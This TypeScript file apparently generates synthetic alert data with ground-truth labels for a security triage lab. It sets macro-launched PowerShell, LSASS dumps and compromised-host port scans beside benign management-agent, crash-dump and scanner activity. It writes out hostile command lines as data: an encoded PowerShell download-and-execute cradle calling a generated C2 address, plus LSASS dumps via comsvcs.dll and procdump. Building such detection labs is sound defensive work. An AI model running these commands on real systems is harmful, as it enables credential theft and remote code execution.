/**
 * Endpoint and network scenarios: macro-launched PowerShell calling home, LSASS dumps, a compromised
 * workstation scanning, beside management agents running encoded scripts, crash dumps, backup agents and
 * the sanctioned vulnerability scanner.
 */
import type { Host, ProcessRecord } from "../../../core/domain.ts";
import { HOSTILE_OCTETS, HOUR, MINUTE, SCANNER, type Person, type World } from "../world.ts";
import type { GroundTruth, LabWriter } from "../writer.ts";

const alertTime = (w: LabWriter) => w.base + w.rng.int(12, 13 * 24) * HOUR + w.rng.int(0, 59) * MINUTE;

function withWorkstation(w: LabWriter, world: World, count: number): Array<Person & { workstation: Host }> {
  return w.rng.sample(
    world.people.flatMap((p) => (p.workstation ? [{ ...p, workstation: p.workstation }] : [])),
    count,
  );
}

function proc(
  w: LabWriter,
  host: Host,
  parent: ProcessRecord | null,
  at: number,
  image: string,
  commandLine: string,
  user: string | null,
  signer: string | null,
): ProcessRecord {
  return w.process({
    id: w.rng.guid(),
    parentId: parent?.id ?? null,
    hostId: host.id,
    pid: w.rng.int(400, 12000),
    image,
    commandLine,
    user,
    sha256: w.rng.hex(64),
    signer,
    startedAt: w.iso(at),
  });
}

function systemRoot(w: LabWriter, host: Host, at: number): ProcessRecord {
  return proc(
    w,
    host,
    null,
    at - 3 * 24 * HOUR,
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\system32\\services.exe",
    "NT AUTHORITY\\SYSTEM",
    "Microsoft Windows",
  );
}

function userRoot(w: LabWriter, host: Host, at: number, user: string): ProcessRecord {
  return proc(
    w,
    host,
    null,
    at - 2 * HOUR,
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\Explorer.EXE",
    user,
    "Microsoft Windows",
  );
}

function endpointAlert(
  w: LabWriter,
  type: "suspicious_process" | "credential_dumping",
  host: Host,
  p: ProcessRecord,
  user: string,
  at: number,
  truth: GroundTruth,
  extra: Record<string, unknown> = {},
): void {
  const image = p.image.split("\\").pop() ?? p.image;
  w.alert(
    {
      family: "endpoint",
      type,
      title:
        type === "suspicious_process"
          ? `Suspicious PowerShell execution on ${host.hostname}`
          : `LSASS memory access on ${host.hostname}`,
      description: `${image} on ${host.hostname}: ${p.commandLine.slice(0, 200)}`,
      severity: "high",
      createdAt: w.iso(at),
      observables: [
        { type: "host", value: host.hostname.toLowerCase(), role: "target" },
        { type: "process", value: image.toLowerCase(), role: "actor" },
        { type: "user", value: user, role: "actor" },
        ...(p.sha256 ? [{ type: "file_hash" as const, value: p.sha256, role: "actor" }] : []),
      ],
      raw: {
        hostname: host.hostname,
        hostId: host.id,
        processId: p.id,
        image: p.image,
        commandLine: p.commandLine,
        user,
        ...extra,
      },
    },
    truth,
  );
}

const b64 = (text: string) => Buffer.from(text, "utf16le").toString("base64");

function suspiciousProcess(w: LabWriter, world: World): void {
  const rng = w.rng;
  for (const person of withWorkstation(w, world, 6)) {
    const host = person.workstation;
    const upn = person.user.userPrincipalName;
    const at = alertTime(w);
    const root = userRoot(w, host, at, upn);
    const word = proc(
      w,
      host,
      root,
      at - 2 * MINUTE,
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${person.user.displayName.split(" ")[0] ?? "user"}\\Downloads\\Invoice_${rng.int(1000, 9999)}.docm"`,
      upn,
      "Microsoft Corporation",
    );
    const c2 = rng.publicIp(HOSTILE_OCTETS);
    const ps = proc(
      w,
      host,
      word,
      at,
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      `powershell.exe -nop -w hidden -enc ${b64(`IEX (New-Object Net.WebClient).DownloadString('http://${c2}/a')`)}`,
      upn,
      "Microsoft Windows",
    );
    proc(
      w,
      host,
      ps,
      at + 20_000,
      "C:\\Users\\Public\\svchost.exe",
      "C:\\Users\\Public\\svchost.exe",
      upn,
      null,
    );
    w.connection({
      processId: ps.id,
      remoteIp: c2,
      remotePort: rng.pick([443, 8080, 8443]),
      remoteDomain: null,
      timestamp: w.iso(at + 5000),
    });
    w.intelVerdict({
      observable: { type: "ip", value: c2 },
      verdict: "malicious",
      score: 96,
      sources: ["lab"],
      tags: ["c2"],
    });
    w.detection({
      id: w.id("det"),
      hostId: host.id,
      name: "Office application spawned PowerShell with an encoded command",
      severity: "high",
      processId: ps.id,
      attack: ["T1204.002", "T1059.001"],
      timestamp: w.iso(at + 30_000),
    });
    endpointAlert(w, "suspicious_process", host, ps, upn, at + rng.int(1, 5) * MINUTE, {
      disposition: "malicious",
      category: "malicious_execution",
      scenario: "macro_powershell_c2",
    });
  }
  for (const person of withWorkstation(w, world, 7)) {
    const host = person.workstation;
    const at = alertTime(w);
    const root = systemRoot(w, host, at);
    const ninja = rng.chance(0.5);
    const agent = ninja
      ? proc(
          w,
          host,
          root,
          at - 24 * HOUR,
          "C:\\Program Files (x86)\\NinjaRMMAgent\\NinjaRMMAgent.exe",
          '"C:\\Program Files (x86)\\NinjaRMMAgent\\NinjaRMMAgent.exe" -service',
          "NT AUTHORITY\\SYSTEM",
          "NinjaOne LLC",
        )
      : proc(
          w,
          host,
          root,
          at - 24 * HOUR,
          "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe",
          '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe" -powershell',
          "NT AUTHORITY\\SYSTEM",
          "Microsoft Corporation",
        );
    const ps = proc(
      w,
      host,
      agent,
      at,
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      `powershell.exe -NonInteractive -ExecutionPolicy Bypass -EncodedCommand ${b64("Get-CimInstance Win32_InstalledWin32Program | Select Name,Version | ConvertTo-Json")}`,
      "NT AUTHORITY\\SYSTEM",
      "Microsoft Windows",
    );
    endpointAlert(
      w,
      "suspicious_process",
      host,
      ps,
      person.user.userPrincipalName,
      at + rng.int(1, 5) * MINUTE,
      { disposition: "benign", category: "admin_activity", scenario: "management_agent_powershell" },
    );
  }
}

function credentialDumping(w: LabWriter, world: World): void {
  const rng = w.rng;
  for (const person of withWorkstation(w, world, 5)) {
    const host = person.workstation;
    const upn = person.user.userPrincipalName;
    const at = alertTime(w);
    const root = userRoot(w, host, at, upn);
    const shell = proc(
      w,
      host,
      root,
      at - 3 * MINUTE,
      "C:\\Windows\\System32\\cmd.exe",
      "cmd.exe",
      upn,
      "Microsoft Windows",
    );
    const lsassPid = rng.int(600, 900);
    const dump = rng.chance(0.5)
      ? proc(
          w,
          host,
          shell,
          at,
          "C:\\Windows\\System32\\rundll32.exe",
          `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsassPid} C:\\Users\\Public\\l.dmp full`,
          upn,
          "Microsoft Windows",
        )
      : proc(
          w,
          host,
          shell,
          at,
          "C:\\Users\\Public\\procdump64.exe",
          "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp",
          upn,
          "Sysinternals - www.sysinternals.com",
        );
    w.detection({
      id: w.id("det"),
      hostId: host.id,
      name: "LSASS process memory dumped",
      severity: "high",
      processId: dump.id,
      attack: ["T1003.001"],
      timestamp: w.iso(at + 10_000),
    });
    endpointAlert(
      w,
      "credential_dumping",
      host,
      dump,
      upn,
      at + rng.int(1, 4) * MINUTE,
      { disposition: "malicious", category: "credential_dumping", scenario: "lsass_dump" },
      { targetImage: "lsass.exe", grantedAccess: "0x1fffff" },
    );
  }
  for (const person of withWorkstation(w, world, 7)) {
    const host = person.workstation;
    const at = alertTime(w);
    const root = systemRoot(w, host, at);
    const werfault = rng.chance(0.5);
    const reader = werfault
      ? proc(
          w,
          host,
          root,
          at,
          "C:\\Windows\\System32\\WerFault.exe",
          `C:\\Windows\\system32\\WerFault.exe -u -p ${rng.int(600, 900)} -s ${rng.int(100, 999)}`,
          "NT AUTHORITY\\SYSTEM",
          "Microsoft Windows",
        )
      : proc(
          w,
          host,
          root,
          at,
          "C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe",
          '"C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe" -snapshot',
          "NT AUTHORITY\\SYSTEM",
          "Veeam Software Group GmbH",
        );
    if (rng.chance(0.4))
      w.detection({
        id: w.id("det"),
        hostId: host.id,
        name: "Process accessed LSASS memory",
        severity: "low",
        processId: reader.id,
        attack: ["T1003.001"],
        timestamp: w.iso(at + 10_000),
      });
    endpointAlert(
      w,
      "credential_dumping",
      host,
      reader,
      "SYSTEM",
      at + rng.int(1, 4) * MINUTE,
      {
        disposition: "benign",
        category: "admin_activity",
        scenario: werfault ? "lsass_crash_dump" : "backup_agent_lsass",
      },
      { targetImage: "lsass.exe", grantedAccess: "0x1410" },
    );
  }
}

function scanAlert(
  w: LabWriter,
  sourceHost: string,
  sourceIp: string,
  ports: number[],
  targets: number,
  at: number,
  truth: GroundTruth,
): void {
  w.alert(
    {
      family: "network",
      type: "port_scan",
      title: `Port scan from ${sourceHost}`,
      description: `${sourceHost} (${sourceIp}) probed ${ports.length} ports on ${targets} hosts.`,
      severity: "medium",
      createdAt: w.iso(at),
      observables: [
        { type: "host", value: sourceHost.toLowerCase(), role: "source" },
        { type: "ip", value: sourceIp, role: "source" },
      ],
      raw: { sourceHost, sourceIp, distinctPorts: ports.length, distinctTargets: targets },
    },
    truth,
  );
}

function scanTraffic(
  w: LabWriter,
  hostname: string,
  ip: string,
  ports: number[],
  targets: number,
  start: number,
): void {
  for (let t = 0; t < targets; t++) {
    for (const port of ports) {
      w.event("network", start + (t * ports.length + ports.indexOf(port)) * 1000, {
        "host.name": hostname,
        "source.ip": ip,
        "destination.ip": `10.10.${w.rng.int(0, 1)}.${(t % 250) + 2}`,
        "destination.port": port,
        "event.action": "connection_attempted",
      });
    }
  }
}

function portScans(w: LabWriter, world: World): void {
  const rng = w.rng;
  for (let i = 0; i < 7; i++) {
    const at = alertTime(w);
    const ports = rng.sample(
      [21, 22, 23, 25, 53, 80, 110, 135, 139, 443, 445, 1433, 3306, 3389, 5985, 8080, 8443],
      rng.int(8, 14),
    );
    const targets = rng.int(10, 25);
    scanTraffic(w, SCANNER.hostname, SCANNER.ip, ports, targets, at - 30 * MINUTE);
    scanAlert(w, SCANNER.hostname, SCANNER.ip, ports, targets, at, {
      disposition: "benign",
      category: "scanner_activity",
      scenario: "vulnerability_scanner",
    });
  }
  for (const person of withWorkstation(w, world, 5)) {
    const host = person.workstation;
    const at = alertTime(w);
    const ports = rng.sample([22, 135, 445, 3389, 5985], rng.int(2, 4));
    const targets = rng.int(15, 40);
    w.detection({
      id: w.id("det"),
      hostId: host.id,
      name: rng.pick([
        "Cobalt Strike beacon behavior",
        "Suspicious service installed remotely",
        "Credential theft tool detected",
      ]),
      severity: "high",
      processId: null,
      attack: ["T1071.001", "T1021.002"],
      timestamp: w.iso(at - rng.int(2, 20) * HOUR),
    });
    scanTraffic(w, host.hostname, host.ip ?? "10.10.1.200", ports, targets, at - 20 * MINUTE);
    scanAlert(w, host.hostname, host.ip ?? "10.10.1.200", ports, targets, at, {
      disposition: "malicious",
      category: "malicious_execution",
      scenario: "compromised_workstation_scan",
    });
  }
}

export function endpointScenarios(w: LabWriter, world: World): void {
  suspiciousProcess(w, world);
  credentialDumping(w, world);
  portScans(w, world);
}
